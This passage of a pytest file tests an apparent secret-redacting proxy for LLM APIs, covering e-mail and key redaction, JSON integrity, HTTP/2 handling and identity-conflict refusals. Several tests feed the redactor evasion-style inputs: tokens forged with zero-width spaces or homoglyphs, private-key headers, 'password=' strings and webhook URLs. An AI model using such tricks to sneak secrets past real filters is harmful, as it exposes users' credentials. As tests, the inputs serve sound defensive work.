    token = re.search(r"TAG_\w+", provider.last()["body"])[0]
    for forged in (token, token.lower(), token[:6] + "\u200b" + token[6:], token.replace("T", "\u0054")):
        answer = call(OPENAI, chat(f"{TAG} and {forged}")).json()["choices"][0]["message"]["content"]
        # What nobody sees is taken out; what is left is a token that stays one.
        assert answer == f"{TAG} and {forged}".replace("\u200b", "")
    assert call(OPENAI, chat(f"only {token}")).json()["choices"][0]["message"]["content"] == f"only {token}"


def test_what_is_replaced_inside_json_leaves_json(call, provider):
    arguments = json.dumps({"q": f"x\n{MAIL}\t{TAG}\\\"", "path": "C:\\new\\" + MAIL, "deep": json.dumps({"r": "\n" + TAG})})
    answer = call(OPENAI, {"model": "m", "messages": [called(arguments), {"role": "user", "content": "x"}]})
    assert answer.status_code == 200, answer.text
    sent = json.loads(json.loads(provider.last()["body"])["messages"][0]["tool_calls"][0]["function"]["arguments"])
    deep = json.loads(sent["deep"])
    token = deep["r"].strip()
    assert token.startswith("TAG_") and sent["q"] == f'x\n[redacted:person.email]\t{token}\\"'
    assert MAIL not in sent["path"]


def test_a_surrogate_pair_beside_a_finding_stays_whole(call, provider):
    body = '{"model":"m","messages":[{"role":"user","content":"\\ud83d\\ude00%s\\ud83d\\ude00"}]}' % (" " + MAIL + " ")
    assert call(OPENAI, body).status_code == 200
    assert "\\ud83d\\ude00 [redacted:person.email] \\ud83d\\ude00" in provider.last()["body"]


def test_http2_is_read_the_same(works):
    command = ["curl", "-sS", "--http2", "--cacert", works.authority, "-H", f"Authorization: Bearer {works.key}", "-H", "Content-Type: application/json"]
    done = subprocess.run([*command, "-d", json.dumps(chat(KEY)), "-w", "\n%{http_version} %{http_code}", works.base + OPENAI], capture_output=True, text=True, timeout=DEADLINE)
    assert done.stdout.endswith("2 403"), done.stdout + done.stderr


@pytest.mark.parametrize("header", ["authorization", "x-api-key", "api-key", "x-goog-api-key"])
def test_two_tokens_are_nobody(works, call, provider, other, header):
    provider.news()
    answer = call(OPENAI, chat("x"), headers=[(header, f"Bearer {other}" if header == "authorization" else other)])
    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "identity-conflict"), answer.text
    assert provider.news() == []
    refusal = works.record(answer.headers["penstock-record"])
    assert refusal["dec"]["reason"] == "identity-conflict"
    # Neither is believed: the record names nobody.
    assert "planner" not in json.dumps(refusal) and "copilot" not in json.dumps(refusal), refusal


# 1 MiB: a debug build, twenty times slower than a release, reads it in a second or two; what looks at all of it anew from
# every place would take hours.
MUCH = 1 << 20


@pytest.mark.parametrize(
    "unit",
    [
        "1", "1 ", "-----BEGIN PRIVATE KEY-----\n", "_AAAAAAAAA", "\\u0041", '\\"', "a@", "((((", f"{TAG} ", "eyJhbGciOi", "password=",
        "password='", "\u200b", "$1$", "%41", "&#65;", "e\u0301", "\u0422", "4556 ", "hooks.slack.com/services/", "a.b@c.d.", "data:,",
    ],
)  # fmt: skip
def test_much_of_one_thing_is_judged_in_time(call, unit):
    answer = call(OPENAI, chat(unit * (MUCH // len(unit.encode()))))
    assert answer.status_code in (200, 403, 413), answer.text
